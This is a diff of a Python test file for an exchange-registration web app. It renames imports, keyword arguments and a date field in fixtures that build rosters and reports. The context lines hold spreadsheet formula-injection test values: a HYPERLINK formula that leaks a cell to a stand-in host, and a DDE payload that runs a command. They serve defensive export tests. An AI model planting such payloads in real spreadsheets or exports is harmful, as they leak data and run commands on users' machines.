@@ -18,7 +18,7 @@ from exchange.exchanges.models import ExchangeStatus
 from exchange.extensions import db
 from exchange.registrations import services
 from tests import factories
-from tests.conftest import login_as, post_form
+from tests.helpers import login_as, post_form
 
 HOSTILE_NAME = '=HYPERLINK("http://x.example/?leak="&A1,"Click")'
 HOSTILE_NOTE = "+cmd|' /C calc'!A0"
@@ -59,7 +59,7 @@ def hostile_roster(app_context, coordinator):
     hostile = factories.participant(
         school, first_name=HOSTILE_NAME, last_name="\tTab", dietary_notes=HOSTILE_NOTE
     )
-    services.register_participant(exchange, hostile, coordinator)
+    services.register_participant(exchange, hostile, by=coordinator)
     db.session.commit()
     return exchange
 
@@ -151,7 +151,7 @@ def hostile_report(app_context):
         [partner],
         title=HOSTILE_NAME,
         status=ExchangeStatus.COMPLETED,
-        start_date=date(2025, 3, 10),
+        start=date(2025, 3, 10),
         end_date=date(2025, 3, 16),
         budget_planned=Decimal("1000.00"),
         budget_actual=Decimal("700.00"),
